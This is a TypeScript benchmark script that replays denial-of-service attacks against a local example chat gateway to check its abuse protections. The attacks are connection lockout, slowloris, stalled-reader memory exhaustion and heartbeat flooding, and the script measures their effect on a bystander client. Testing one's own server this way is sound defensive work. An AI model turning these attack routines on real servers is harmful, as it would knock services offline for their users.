/**
 * Replays the attacks of the abuse issue against a running example gateway
 * (`npm start`), as a hostile client would, and prints what they achieved.
 * Every loop is bounded in count and time; all traffic is on 127.0.0.0/8.
 *
 *     GATE_ADMIN_TOKEN=secret npm start          # in one terminal
 *     GATE_ADMIN_TOKEN=secret npx tsx bench/tools/attacks.ts [lockout|slowloris|stalled|flood ...]
 *
 * Environment: PORT (3000), GATE_TCP_PORT (3001), GATE_TOKEN_SECRET
 * (dev-secret), GATE_ADMIN_TOKEN (to read /gate/metrics).
 */
import http from 'node:http'
import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { tokenSigner } from '../../examples/chat/tokens.js'

const PORT = Number(process.env.PORT ?? 3000)
const TCP_PORT = Number(process.env.GATE_TCP_PORT ?? 3001)
const sign = tokenSigner(process.env.GATE_TOKEN_SECRET ?? 'dev-secret', 3600)
const ADMIN = process.env.GATE_ADMIN_TOKEN

const frame = (name: string, body: unknown): Buffer => {
  const payload = Buffer.from(JSON.stringify({ [name]: body }))
  const out = Buffer.alloc(2 + payload.length)
  out.writeUInt16BE(payload.length)
  payload.copy(out, 2)
  return out
}

async function metrics (): Promise<Map<string, number>> {
  const out = new Map<string, number>()
  if (ADMIN === undefined) return out
  // From an address of its own: the attacks use up 127.0.0.1's per-IP allowance.
  const text = await new Promise<string>((resolve, reject) => {
    http.get({ host: '127.0.0.1', port: PORT, path: '/gate/metrics', localAddress: '127.0.0.250', headers: { authorization: `Bearer ${ADMIN}` } }, (res) => {
      let body = ''
      res.on('data', (d: Buffer) => { body += String(d) })
      res.on('end', () => resolve(body))
    }).on('error', reject)
  })
  for (const line of text.split('\n')) {
    const m = /^([a-z_]+(?:\{[^}]*\})?) ([0-9.e+-]+)$/.exec(line)
    if (m !== null) out.set(m[1], Number(m[2]))
  }
  return out
}

const mib = (n: number | undefined): string => n === undefined ? '?' : `${(n / 2 ** 20).toFixed(0)} MiB`

/** A TCP socket that resolves once connected (or rejects), from `localAddress`. */
async function tcp (localAddress = '127.0.0.1'): Promise<net.Socket> {
  const socket = net.connect({ port: TCP_PORT, host: '127.0.0.1', localAddress })
  socket.on('error', () => {})
  await new Promise<void>((resolve, reject) => { socket.once('connect', resolve); socket.once('close', reject) })
  return socket
}

/** Logs in over WebSocket; resolves with the open socket. */
async function wsUser (uid: string, localAddress: string): Promise<WebSocket> {
  const ws = new WebSocket(`ws://127.0.0.1:${PORT}/ws`, { localAddress })
  ws.on('error', () => {})
  const within = async (what: string, p: Promise<void>): Promise<void> => await Promise.race([p, sleep(5000).then(() => { throw new Error(`no ${what} within 5 s`) })])
  await within('open', new Promise<void>((resolve, reject) => {
    ws.once('open', resolve)
    ws.once('error', reject)
    ws.once('unexpected-response', (_req, res) => reject(new Error(`HTTP ${res.statusCode ?? '?'}`)))
  }))
  const answered = within('login answer', new Promise<void>((resolve, reject) => {
    ws.once('message', (d: Buffer) => { String(d).includes('"ret":1') ? resolve() : reject(new Error(String(d))) })
  }))
  ws.send(JSON.stringify({ C2S_UserLogin: { token: sign(uid), login_plat: 1 } }))
  await answered
  return ws
}

/** 10,000 silent TCP connections from one IP, kept alive with a byte of an unfinished frame each second. */
async function lockout (): Promise<void> {
  const sockets: net.Socket[] = []
  const start = Date.now()
  let refused = 0
  for (let i = 0; i < 10000; i++) {
    try {
      const s = await tcp()
      s.write(Buffer.from([0x00])) // half a length prefix
      sockets.push(s)
    } catch { refused++ }
  }
  await sleep(200)
  const alive = (): number => sockets.filter(s => !s.destroyed && s.readyState === 'open').length
  console.log(`lockout: 10,000 connects from 127.0.0.1 in ${Date.now() - start} ms; open after 200 ms: ${alive()}; refused at connect: ${refused}`)
  const legit = await wsUser('legit-lockout', '127.0.0.9').then(() => 'logged in', (err: Error) => `failed: ${err.message}`)
  console.log(`lockout: a client from 127.0.0.9 meanwhile: ${legit}`)
  for (let t = 1; t <= 14; t++) {
    await sleep(1000)
    for (const s of sockets) if (!s.destroyed) s.write(Buffer.from([0x10]))
    if (t % 2 === 0) console.log(`lockout: t=${t}s, attacker connections still open: ${alive()}`)
  }
  for (const s of sockets) s.destroy()
}

/** 5,000 HTTP upgrade requests whose headers trickle in at a byte a second. */
async function slowloris (): Promise<void> {
  const sockets: net.Socket[] = []
  const start = Date.now()
  for (let i = 0; i < 5000; i++) {
    const s = net.connect({ port: PORT, host: '127.0.0.1' })
    s.on('error', () => {})
    s.write('GET /ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n')
    sockets.push(s)
    if (i % 500 === 499) await sleep(10)
  }
  await sleep(500)
  const alive = (): number => sockets.filter(s => !s.destroyed).length
  console.log(`slowloris: 5,000 half-open requests in ${Date.now() - start} ms; still open after 500 ms: ${alive()}`)
  const legit = await wsUser('legit-slowloris', '127.0.0.9').then(() => 'logged in', (err: Error) => `failed: ${err.message}`)
  console.log(`slowloris: a client from 127.0.0.9 meanwhile: ${legit}; metrics: unfinished ${(await metrics()).get('gate_unfinished_http_requests') ?? '?'}`)
  for (let t = 1; t <= 14; t++) {
    await sleep(1000)
    for (const s of sockets) if (!s.destroyed) s.write('X')
    if (t % 2 === 0) console.log(`slowloris: t=${t}s, still open: ${alive()}`)
  }
  for (const s of sockets) s.destroy()
}

/** 200 receivers in a room stop reading; 10 senders (10 addresses) fill it with ~1.1 KB messages for 20 s. */
async function stalled (): Promise<void> {
  const before = await metrics()
  const receivers: WebSocket[] = []
  for (let i = 0; i < 200; i++) {
    const ws = await wsUser(`victim${i}`, `127.0.1.${1 + (i % 200)}`)
    ws.send(JSON.stringify({ C2S_UpdateWatchRoom: { rooms: ['stall'] } }))
    receivers.push(ws)
  }
  await sleep(300)
  for (const ws of receivers) (ws as unknown as { _socket: net.Socket })._socket.pause()
  const senders: net.Socket[] = []
  for (let i = 0; i < 10; i++) {
    const s = await tcp(`127.0.2.${i + 1}`)
    s.write(frame('C2S_UserLogin', { token: sign(`sender${i}`), login_plat: 1 }))
    s.resume()
    senders.push(s)
  }
  await sleep(300)
  const msg = frame('C2S_Message', { room: 'stall', content: 'é'.repeat(540) })
  let peakRss = 0
  let peakBacklog = 0
  const end = Date.now() + 20000
  while (Date.now() < end) {
    for (const s of senders) for (let k = 0; k < 20; k++) s.write(msg)
    await sleep(100)
    const m = await metrics()
    peakRss = Math.max(peakRss, m.get('process_resident_memory_bytes') ?? 0)
    peakBacklog = Math.max(peakBacklog, m.get('gate_outbound_backlog_bytes') ?? 0)
  }
  const after = await metrics()
  const closed4004 = (after.get('gate_closes_total{code="4004"}') ?? 0) - (before.get('gate_closes_total{code="4004"}') ?? 0)
  console.log(`stalled: RSS before ${mib(before.get('process_resident_memory_bytes'))}, peak ${mib(peakRss)}; outbound backlog peak ${mib(peakBacklog)}; receivers closed with 4004: ${closed4004} of 200`)
  for (const s of senders) s.destroy()
  for (const ws of receivers) ws.terminate()
  await sleep(2000)
  console.log(`stalled: RSS 2 s after the attack ${mib((await metrics()).get('process_resident_memory_bytes'))}`)
}

/** One connection pipelines heartbeats as fast as its socket takes them for 5 s; a bystander measures its round trips. */
async function flood (): Promise<void> {
  const attacker = await tcp('127.0.3.1')
  let answers = 0
  attacker.on('data', (d: Buffer) => { answers += d.length / 45 })
  const beats = Buffer.concat(Array.from({ length: 1000 }, () => frame('C2S_UserHeartBeat', { ptime: 1 })))
  const bystander = new WebSocket(`ws://127.0.0.1:${PORT}/ws`, { localAddress: '127.0.3.2' })
  await new Promise(resolve => bystander.once('open', resolve))
  const rtts: number[] = []
  const end = Date.now() + 5000
  let sentBeats = 0
  const pump = (): void => {
    while (Date.now() < end && attacker.write(beats)) sentBeats += 1000
    if (Date.now() < end) attacker.once('drain', pump)
  }
  pump()
  while (Date.now() < end) {
    const t = performance.now()
    await new Promise<void>(resolve => {
      bystander.once('message', () => resolve())
      bystander.send(JSON.stringify({ C2S_UserHeartBeat: { ptime: 1 } }))
    })
    rtts.push(performance.now() - t)
    await sleep(20)
  }
  rtts.sort((a, b) => a - b)
  const m = await metrics()
  console.log(`flood: attacker wrote ${sentBeats} heartbeats in 5 s, got about ${Math.round(answers / 5)} answers/s; throttled ${m.get('gate_throttled_total') ?? '?'} times; ` +
    `bystander RTT p50 ${rtts[Math.floor(rtts.length / 2)].toFixed(2)} ms, p99 ${rtts[Math.floor(rtts.length * 0.99)].toFixed(2)} ms (${rtts.length} samples)`)
  attacker.destroy()
  bystander.terminate()
}

const attacks: Record<string, () => Promise<void>> = { lockout, slowloris, stalled, flood }
const chosen = process.argv.slice(2)
for (const name of chosen.length > 0 ? chosen : Object.keys(attacks)) {
  const attack = attacks[name]
  if (attack === undefined) throw new Error(`unknown attack "${name}" (${Object.keys(attacks).join(', ')})`)
  await attack()
  await sleep(1000)
}
process.exit(0)
